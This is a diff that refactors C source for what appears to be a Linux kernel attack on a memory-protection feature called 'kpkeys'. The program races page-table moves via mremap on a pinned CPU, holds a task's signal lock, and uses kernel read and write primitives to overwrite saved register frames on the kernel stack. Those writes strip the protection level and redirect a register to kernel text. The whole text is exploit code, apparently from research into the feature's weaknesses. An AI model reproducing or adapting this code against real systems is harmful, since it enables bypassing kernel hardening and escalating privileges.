@@ -10,7 +10,6 @@
 #include <signal.h>
 #include <string.h>
 #include <sys/mman.h>
-#include <sys/time.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -18,6 +17,7 @@
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
+#include "pt_regs.h"
 
 #ifdef __x86_64__
 #define HELPER		"exchange"
@@ -31,19 +31,8 @@
 #define MOVED_PART	0x5f
 #define MOVED_TABLES	16
 #define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
-#define FRAMES_PER_PAGE	4096		/* of the table of frames */
 #define NO_LEVEL	0xffffffffUL
-
-/* struct pt_regs, in words */
-#define FRAME_WORDS	21
-#define FRAME_GENERAL	13		/* those that may have the level */
-#define FRAME_SI	13
-#define FRAME_DI	14
-#define FRAME_IP	16
-#define FRAME_CS	17
-#define FRAME_SS	20
-#define KERNEL_CS	0x10
-#define KERNEL_SS	0x18
+#define LEVEL_WORDS	13		/* of a frame: those that may have the level */
 
 struct target {
 	pid_t pid;
@@ -58,21 +47,6 @@ static struct {
 	volatile unsigned long rounds;
 } *shared;
 
-static void on_alarm(int signal)
-{
-	(void)signal;
-}
-
-static void start_timer(void)
-{
-	struct itimerval interval = { { 0, INTERVAL }, { 0, INTERVAL } };
-
-	shared->ready = true;
-	while (!shared->go)
-		usleep(1000);
-	setitimer(ITIMER_REAL, &interval, NULL);
-}
-
 /* Whole tables: each is unlinked and linked by the helper. */
 static void move_for_ever(void)
 {
@@ -85,7 +59,10 @@ static void move_for_ever(void)
 	place[1] = place[0] + 2 * size;
 	for (i = 0; page && i < MOVED_TABLES; i++)
 		page[i * PMD_SIZE] = 1;
-	start_timer();
+	shared->ready = true;
+	while (!shared->go)
+		usleep(1000);
+	alarm_every(INTERVAL);
 	for (; page; from = !from, shared->rounds++)
 		if (mremap(place[from], size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
 			   place[!from]) != place[!from])
@@ -101,28 +78,19 @@ static pid_t start_child(void)
 	if (pid)
 		return pid;
 	stay_on_cpu(HELPER_CPU);
-	signal(SIGALRM, on_alarm);
+	heed_alarms();
 	move_for_ever();
 	_exit(1);
-}
-
-/* Eight frames at once: around text is text. */
-static uint64_t frames_of_text(void)
-{
-	uint64_t pages = kread64(ksymbol("kpkeys_frames")), pfn = text_phys() / PAGE_SIZE;
-
-	return (kread64(pages + pfn / FRAMES_PER_PAGE * sizeof(uint64_t)) +
-		pfn % FRAMES_PER_PAGE) & -8UL;
 }
 
 static bool find_target(struct target *target)
 {
 	target->helper = ksymbol(HELPER);
 	target->state = ksymbol_cpu("kpkeys_cpu", HELPER_CPU);
-	target->place = frames_of_text();
+	target->place = frame_of_text() & -8UL;	/* around text is text */
 	if (!target->helper || !target->state || ktask(target->pid, &target->task))
 		return false;
-	target->lock = find_signal_lock(&target->task, on_alarm);
+	target->lock = find_signal_lock(&target->task);
 	return target->lock;
 }
 
@@ -131,7 +99,7 @@ static bool is_helper(const struct target *target, const uint64_t *frame)
 {
 	uint8_t nr = 1;
 
-	return frame[FRAME_CS] == KERNEL_CS && frame[FRAME_SS] == KERNEL_SS &&
+	return is_kernel_frame(frame) &&
 	       frame[FRAME_IP] - target->helper < HELPER_BEGIN &&
 	       !kread(target->state + NR_SAVED, &nr, sizeof(nr)) && !nr;
 }
@@ -140,7 +108,7 @@ static void change_frame(struct target *target, uint64_t at, const uint64_t *fra
 {
 	int i;
 
-	for (i = 0; i < FRAME_GENERAL; i++)
+	for (i = 0; i < LEVEL_WORDS; i++)
 		if (frame[i] == LEVEL_PTE)
 			kwrite64(at + i * sizeof(*frame), NO_LEVEL);
 	kwrite64(at + FRAME_DI * sizeof(*frame), target->place);
@@ -160,17 +128,12 @@ static void change_stack(struct target *target)
 			change_frame(target, part + i * sizeof(*words), words + i);
 }
 
-static void set_lock(const struct target *target, char locked)
-{
-	kwrite(target->lock, &locked, sizeof(locked));
-}
-
 static void attack_once(struct target *target)
 {
-	set_lock(target, 1);
+	set_lock(target->lock, true);
 	usleep(HOLD * 1000);
 	change_stack(target);
-	set_lock(target, 0);
+	set_lock(target->lock, false);
 	usleep(HOLD * 1000);
 }
 
